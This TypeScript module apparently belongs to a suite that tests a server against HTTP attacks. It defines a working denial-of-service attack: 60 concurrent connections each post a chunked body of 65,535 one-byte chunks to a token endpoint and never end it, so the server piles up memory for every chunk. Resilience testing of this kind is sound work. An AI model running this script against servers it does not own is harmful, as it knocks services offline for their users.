/** Bodies in one-byte chunks: what a server keeps for each chunk is many times the byte. */
import type { Attack, AttackTarget } from "./attack.js";
import { ended, open, send } from "./sockets.js";

const connections = 60;
/** One less than the largest form. */
const formChunks = 65_535;

/** Chunks in one write: enough that the server reads thousands at once. */
const chunksPerWrite = 8_192;

/** `count` chunks of one byte each, without the last chunk. */
export function* oneByteChunks(count: number): Generator<string> {
  for (let left = count; left > 0; left -= chunksPerWrite)
    yield "1\r\nx\r\n".repeat(Math.min(left, chunksPerWrite));
}

/** Sends a request whose body is `chunks` chunks of one byte and never ends, and waits for the connection's end. */
export async function sendTinyChunks(target: AttackTarget, head: string, chunks: number): Promise<void> {
  const socket = open(target);
  await send(socket, [`${head}\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n`]);
  await send(socket, oneByteChunks(chunks));
  await ended(socket);
}

export const tinyChunksToken: Attack = {
  name: "tiny-chunks-token",
  what: "60 connections each send a form for a token in 65,535 chunks of one byte and never end it",
  waitMillisecondsMax: 100,
  run: async (target) => {
    await Promise.all(
      Array.from({ length: connections }, () => sendTinyChunks(target, "POST /token HTTP/1.1", formChunks)),
    );
  },
};
